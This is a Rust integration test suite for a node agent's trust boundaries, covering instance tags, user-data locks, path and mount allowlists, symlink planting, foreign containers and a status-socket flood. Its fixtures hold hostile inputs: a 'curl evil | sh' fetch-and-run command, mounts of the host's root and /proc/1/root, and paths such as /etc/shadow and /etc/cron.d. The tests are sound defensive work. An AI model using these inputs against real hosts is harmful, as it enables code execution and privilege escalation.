//! The trust boundaries, attacked end to end: what an instance tag or user-data may not set is
//! ignored and never stops the boot; paths and mounts outside the image owner's allowlist are
//! refused by `config check`; a symlink planted in a task directory is never followed; a
//! container that carries the node's labels but was not made by nodeagent is stopped; the
//! status socket survives thousands of half-open connections and hostile requests.

use crate::support;

use std::io::{Read, Write};
use std::os::unix::fs::{symlink, FileTypeExt, MetadataExt};
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::process::{Command, Output};
use std::time::Duration;
use support::agent::Agent;
use support::node::Node;
use support::{netns, transcript, wait_for, World};

const BOOT: Duration = Duration::from_secs(60);

/// `nodeagent ARGS... --config CONFIG --root ROOT`, wired to `world`.
fn nodeagent(world: &World, config: &Path, args: &[&str]) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_nodeagent"));
    cmd.args(args)
        .arg("--config")
        .arg(config)
        .arg("--root")
        .arg(world.root.path());
    world.wire(&mut cmd);
    cmd.output().unwrap()
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Tags that would make whoever may tag the instance root on it, and tags with invalid values.
const HOSTILE_TAGS: &[(&str, &str)] = &[
    ("runtime", "docker"),
    ("tasks.linkerd.container.command", "sh -c 'curl evil | sh'"),
    ("tasks.linkerd.container.mounts", "/:/host"),
    ("tasks.linkerd.family", "evil-task"),
    ("ecs.config_path", "/etc/cron.d/evil"),
    ("ecs.config.ECS_EVIL", "evil-value"),
    ("metrics.listen", "0.0.0.0:9113"),
    ("trust.paths", "/evil-root"),
    // Allowed keys, values that are not valid: the layer below wins.
    ("cluster", "not a cluster!"),
    ("supervision.ready_timeout", "forever"),
];

#[test]
fn a_tag_sets_only_what_tags_may_and_never_stops_the_boot() {
    let mut args = vec![
        "--node-tag".to_string(),
        "nodeagent:consul.datacenter=dc-tag".into(),
    ];
    for (k, v) in HOSTILE_TAGS {
        args.push("--node-tag".into());
        args.push(format!("nodeagent:{k}={v}"));
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let world = World::start(&args);
    let config = world.config("");

    // The prepare unit is RequiredBy ecs.service: a tag must never make it fail.
    let out = nodeagent(&world, &config, &["prepare"]);
    assert!(out.status.success(), "{}", transcript(&out));
    let ecs_config = world.read("/etc/ecs/ecs.config");
    assert!(
        ecs_config.contains("ECS_CLUSTER=l5d-demo\n"),
        "{ecs_config}"
    );
    assert!(!ecs_config.contains("EVIL"), "{ecs_config}");
    assert!(!world.path("/etc/cron.d/evil").exists());
    let stderr = String::from_utf8_lossy(&out.stderr);
    for (key, value) in HOSTILE_TAGS {
        assert!(stderr.contains(key), "one warning names {key}: {stderr}");
        assert!(
            !stderr.contains(value),
            "a tag's value is never logged: {stderr}"
        );
    }

    let out = nodeagent(&world, &config, &["config", "show"]);
    assert!(out.status.success(), "{}", transcript(&out));
    let shown = stdout(&out);
    for (key, value) in HOSTILE_TAGS {
        assert!(
            shown.contains(&format!(
                "# ignored: {key} (instance tag nodeagent:{key}): "
            )),
            "{key}: {shown}"
        );
        if value.len() > 6 {
            assert!(!shown.contains(value), "{value}: {shown}");
        }
    }
    assert!(
        shown.contains("consul.datacenter = \"dc-tag\"  # instance tag"),
        "{shown}"
    );
    assert!(
        shown.contains("runtime = \"ecs\"  # built-in defaults"),
        "{shown}"
    );

    // The boot runs with what the tags may set, and starts the configured families only.
    let out = world.run_once(&config);
    assert!(out.status.success(), "{}", transcript(&out));
    let families: Vec<String> = support::block_on(world.running_tasks())
        .into_iter()
        .map(|(family, _, _)| family)
        .collect();
    assert_eq!(
        families,
        ["consul-agent", "consul-registrator", "linkerd"],
        "no task of a tag's choosing"
    );
}

#[test]
fn user_data_cannot_set_what_the_image_owner_locks() {
    let dir = tempfile::tempdir().unwrap();
    let user_data = dir.path().join("user-data.toml");
    std::fs::write(
        &user_data,
        "[nodeagent]\ncluster = \"from-user-data\"\n\
         [nodeagent.trust]\npaths = [\"/\"]\nlocked = []\n\
         [nodeagent.tasks.linkerd.container]\nimage = \"evil/linkerd:latest\"\n",
    )
    .unwrap();
    let world = World::start(&["--user-data", user_data.to_str().unwrap()]);
    let config = world.config("[trust]\nlocked = [\"tasks.*.container\"]\n");
    let out = nodeagent(&world, &config, &["config", "show"]);
    assert!(out.status.success(), "{}", transcript(&out));
    let shown = stdout(&out);
    for key in [
        "trust.paths",
        "trust.locked",
        "tasks.linkerd.container.image",
    ] {
        assert!(
            shown.contains(&format!("# ignored: {key} (EC2 user-data): ")),
            "{key}: {shown}"
        );
    }
    assert!(
        shown.contains("locked by the image (trust.locked: \"tasks.*.container\")"),
        "{shown}"
    );
    assert!(!shown.contains("evil/linkerd"), "{shown}");
    assert!(
        shown.contains("cluster = \"from-user-data\"  # EC2 user-data"),
        "what is not locked is user-data's: {shown}"
    );
}

/// `nodeagent config check` on `config` alone (no node, no AWS).
fn check(config: &str) -> Output {
    let root = tempfile::tempdir().unwrap();
    let path = root.path().join("nodeagent.toml");
    std::fs::write(&path, config).unwrap();
    Command::new(env!("CARGO_BIN_EXE_nodeagent"))
        .args(["config", "check", "--config"])
        .arg(&path)
        .arg("--root")
        .arg(root.path())
        .env("AWS_EC2_METADATA_SERVICE_ENDPOINT", "http://127.0.0.1:9")
        .env("AWS_ENDPOINT_URL", "http://127.0.0.1:9")
        .output()
        .unwrap()
}

#[test]
fn paths_and_mounts_outside_the_allowlist_are_refused() {
    let file = |key: &str, template: &str| {
        format!("[tasks.linkerd.files.\"{key}\"]\ntemplate = \"{template}\"\nmode = \"0644\"\n")
    };
    let mounts = |m: &str| {
        format!("runtime = \"docker\"\n[ecs]\njoin = false\n[tasks.linkerd.container]\nmounts = [\"{m}\"]\n")
    };
    let outside = "is outside the paths nodeagent may use";
    let cases: Vec<(String, &str)> = vec![
        (
            file("/etc/linkerd/x.yaml", "/etc/shadow"),
            "tasks.linkerd.files",
        ),
        (file("/usr/local/bin/x", "builtin:linkerd.yaml"), outside),
        (
            file("/opt/../etc/passwd", "builtin:linkerd.yaml"),
            "the key must be an absolute file path (no `.` or `..`)",
        ),
        ("[tasks.linkerd]\ndirs = [\"/srv/data\"]\n".into(), outside),
        (
            "[ecs]\nconfig_path = \"/etc/profile.d/x.sh\"\n".into(),
            outside,
        ),
        ("[status]\nsocket = \"/tmp/x.sock\"\n".into(), outside),
        (mounts("/:/host"), "would give the container the host's /"),
        (
            mounts("/etc:/etc"),
            "would give the container the host's /etc",
        ),
        (
            mounts("/var/lib:/v"),
            "would give the container the host's /var/lib",
        ),
        (
            mounts("/proc/1/root:/p"),
            "would give the container the host's /proc/1/root",
        ),
        (
            mounts("/home/admin:/h"),
            "containers mount only within trust.paths",
        ),
        (
            "[trust]\npaths = [\"/\"]\n".into(),
            "would let a configuration write anywhere",
        ),
    ];
    for (config, expected) in &cases {
        let out = check(config);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{config:?}: {stderr}");
        assert!(
            stderr.contains(expected),
            "{config:?}: expected {expected:?} in {stderr}"
        );
    }
    // The image owner may allow more, in /etc/nodeagent.
    let out = check(&format!(
        "{}[trust]\nmounts = [\"/var/log\"]\n",
        mounts("/var/log:/logs:ro")
    ));
    assert_eq!(out.status.code(), Some(0), "{}", transcript(&out));
}

#[test]
fn writes_never_follow_a_symlink_planted_in_a_task_directory() {
    let world = World::start(&[]);
    let config = world.config("");
    let secret = world.path("/etc/secret");
    std::fs::create_dir_all(secret.parent().unwrap()).unwrap();
    std::fs::write(&secret, "root only\n").unwrap();
    let consul = world.path("/opt/consul/config/consul-agent.json");
    std::fs::create_dir_all(consul.parent().unwrap()).unwrap();
    symlink(&secret, &consul).unwrap();

    // A planted file link is replaced, never written through.
    let out = world.run_once(&config);
    assert!(out.status.success(), "{}", transcript(&out));
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "root only\n");
    let meta = std::fs::symlink_metadata(&consul).unwrap();
    assert!(meta.file_type().is_file(), "{meta:?}");

    // A planted directory link is refused: nothing lands where it points.
    let elsewhere = world.path("/etc/cron.d");
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::fs::remove_dir_all(world.path("/etc/linkerd")).unwrap();
    symlink(&elsewhere, world.path("/etc/linkerd")).unwrap();
    let out = world.run_once(&config);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{}", transcript(&out));
    assert!(
        stderr.contains("/etc/linkerd"),
        "the error names the path: {stderr}"
    );
    assert_eq!(
        std::fs::read_dir(&elsewhere).unwrap().count(),
        0,
        "nothing written through the link"
    );
}

#[test]
fn a_container_with_the_nodes_labels_that_nodeagent_did_not_make_is_stopped() {
    if !netns::enter("a_container_with_the_nodes_labels_that_nodeagent_did_not_make_is_stopped") {
        return;
    }
    let node = Node::start(&[]);
    // Someone with the Docker socket runs a container of their own under linkerd's labels.
    let label_node = format!("io.nodeagent.node={}", node.world.info.instance_id);
    let out = Command::new("docker")
        .args(["-H", &node.engine.socket, "run", "-d", "--network", "host"])
        .args([
            "--label",
            &label_node,
            "--label",
            "io.nodeagent.task=linkerd",
        ])
        .args([support::docker::IMAGE, "sleep", "3600"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", transcript(&out));
    let foreign = stdout(&out).trim().to_string();
    let agent = node.run("agent");
    wait_for(BOOT, "the node to be healthy", || node.healthy());
    wait_for(BOOT, "the foreign container to be stopped", || {
        node.engine
            .cli(&["inspect", "-f", "{{.State.Running}}", &foreign])
            .trim()
            != "true"
    });
    let linkerd: Vec<String> = node
        .containers()
        .into_iter()
        .filter(|(t, _)| t == "linkerd")
        .map(|(_, id)| id)
        .collect();
    assert_eq!(linkerd.len(), 1, "{linkerd:?}");
    assert_ne!(linkerd[0], foreign, "the foreign container is not adopted");
    assert_eq!(
        node.task("linkerd").unwrap()["instance"].as_str(),
        Some(linkerd[0].as_str()),
        "the node's linkerd is the one nodeagent made"
    );
    let log = agent.log();
    assert!(
        log.contains(&format!(
            "container {foreign} carries this node's labels but was not made by nodeagent"
        )),
        "reported: {log}"
    );
}

/// Raises this process's open-file limit to its hard limit; the soft limit it got.
fn raise_nofile() -> u64 {
    use rustix::process::{getrlimit, setrlimit, Resource};
    let mut limit = getrlimit(Resource::Nofile);
    limit.current = limit.maximum;
    setrlimit(Resource::Nofile, limit).expect("setrlimit NOFILE");
    getrlimit(Resource::Nofile).current.unwrap_or(u64::MAX)
}

fn open_fds(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .unwrap()
        .count()
}

/// One request on the socket; the status line of the answer ("" when it closed).
fn request(socket: &Path, raw: &str) -> String {
    let mut s = UnixStream::connect(socket).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    s.write_all(raw.as_bytes()).unwrap();
    let mut answer = String::new();
    let _ = s.read_to_string(&mut answer);
    answer.lines().next().unwrap_or_default().to_string()
}

#[test]
fn the_status_socket_withstands_a_flood_and_hostile_requests() {
    const FLOOD: usize = 3000;
    let world = World::start(&[]);
    let config = world.config("");
    let mut agent = Agent::spawn(
        &world,
        crate::support::NO_DOCKER,
        &["run", "--config", config.to_str().unwrap()],
        "agent",
        |_| {},
    );
    let status = || nodeagent(&world, &config, &["status", "--json"]);
    wait_for(BOOT, "status to answer", || {
        matches!(status().status.code(), Some(0 | 1))
    });
    let socket = world.path("/run/nodeagent/nodeagent.sock");
    assert!(std::fs::symlink_metadata(&socket)
        .unwrap()
        .file_type()
        .is_socket());
    let pid = agent.child.id();
    let fds_before = open_fds(pid);

    // Thousands of connections that never finish a request, some with half a request.
    let room = raise_nofile();
    assert!(
        room > FLOOD as u64 + 100,
        "the test needs {FLOOD} descriptors, has {room}"
    );
    let mut held = Vec::with_capacity(FLOOD);
    let mut fds = 0;
    for i in 0..FLOOD {
        let mut s = UnixStream::connect(&socket).expect("the agent accepts connections");
        if i % 2 == 0 {
            let _ = s.write_all(b"GET /v1/status HTTP/1.1\r\nHost: x\r\n");
        }
        held.push(s);
        if i % 100 == 99 {
            fds = fds.max(open_fds(pid));
        }
    }
    // The agent's descriptors stay bounded while all of them are open on this side.
    assert!(
        fds < fds_before + 64,
        "{fds} descriptors open in the agent (was {fds_before}) with {FLOOD} connections held"
    );
    // And the operator is still served.
    let asked = std::time::Instant::now();
    let out = status();
    println!(
        "status socket: {FLOOD} connections held, the agent's descriptors {fds_before} -> at most {fds}, `status` answered in {} ms",
        asked.elapsed().as_millis()
    );
    assert!(
        matches!(out.status.code(), Some(0 | 1)),
        "{}",
        transcript(&out)
    );
    drop(held);

    // A parameter out of range is a 400, oversized headers are refused; the agent lives on.
    assert_eq!(
        request(&socket, "POST /v1/drain?tasks_timeout=1e20 HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
        "HTTP/1.1 400 Bad Request"
    );
    let huge = format!(
        "GET /v1/status HTTP/1.1\r\nHost: x\r\nX-Pad: {}\r\nConnection: close\r\n\r\n",
        "a".repeat(64 * 1024)
    );
    let answer = request(&socket, &huge);
    assert!(!answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(agent.alive(), "the agent survived: {}", agent.log());
    let out = status();
    assert!(
        matches!(out.status.code(), Some(0 | 1)),
        "{}",
        transcript(&out)
    );
    let s: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_ne!(s["phase"], "drain", "no drain was started: {s}");
    assert!(
        std::fs::metadata(&socket).unwrap().mode() & 0o7777 == 0o660,
        "the socket stays 0660"
    );
}
